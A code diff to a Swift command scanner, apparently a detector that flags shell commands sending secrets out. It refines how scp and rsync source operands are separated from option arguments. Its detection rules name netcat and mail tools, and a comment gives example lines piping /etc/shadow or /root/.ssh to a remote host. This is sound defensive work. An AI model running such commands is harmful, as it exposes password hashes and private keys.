@@ -18,7 +18,7 @@ extension TraitScan {
             if let file = program.value(of: "--post-file", "--body-file"), Self.isSecret(file.text) { add(.sendsOut, text, offset) }
         case "scp", "rsync":
             let last = program.operands.last?.text ?? ""
-            if last.bytes.contains(0x3a), program.operands.dropLast().contains(where: { Self.isSecret($0.text) }) {
+            if last.bytes.contains(0x3a), Self.sources(of: program).contains(where: { Self.isSecret($0.text) }) {
                 add(.sendsOut, text, offset)
             }
         case "mail", "mailx", "sendmail", "mutt", "nc", "ncat", "netcat":
@@ -36,6 +36,24 @@ extension TraitScan {
                 add(.minesCurrency, text, offset)
             }
         }
+    }
+
+    /// What scp(1) or rsync(1) copies: the operands without the last, and without the words that belong to an option, such
+    /// as the key to log in with.
+    private static func sources(of program: EffectiveCommand) -> [ShellWord] {
+        let takesWord: Set<String> =
+            program.name == "scp"
+            ? ["-i", "-P", "-F", "-o", "-l", "-c", "-S", "-J", "-D", "-X"]
+            : ["-e", "--rsh", "-f", "--filter", "--exclude", "--exclude-from", "--include", "--password-file", "--log-file", "-T", "-M"]
+        let words = Array(program.arguments)
+        return words.indices.dropLast().filter { index in
+            let isOption = words[index].text.bytes.first == 0x2d
+            // "-avze" ends in a letter that takes a word, too.
+            let before = index > 0 ? words[index - 1].text : ""
+            let isCluster =
+                program.name == "rsync" && before.count < 12 && before.bytes.last == 0x65 && before.bytes.dropFirst().first != 0x2d
+            return !isOption && !takesWord.contains(before.comparable) && !(isCluster && before.bytes.first == 0x2d)
+        }.map { words[$0] }
     }
 
     /// `cat /etc/shadow | nc host port`, `tar cz /root/.ssh | ssh host 'cat > x'`.
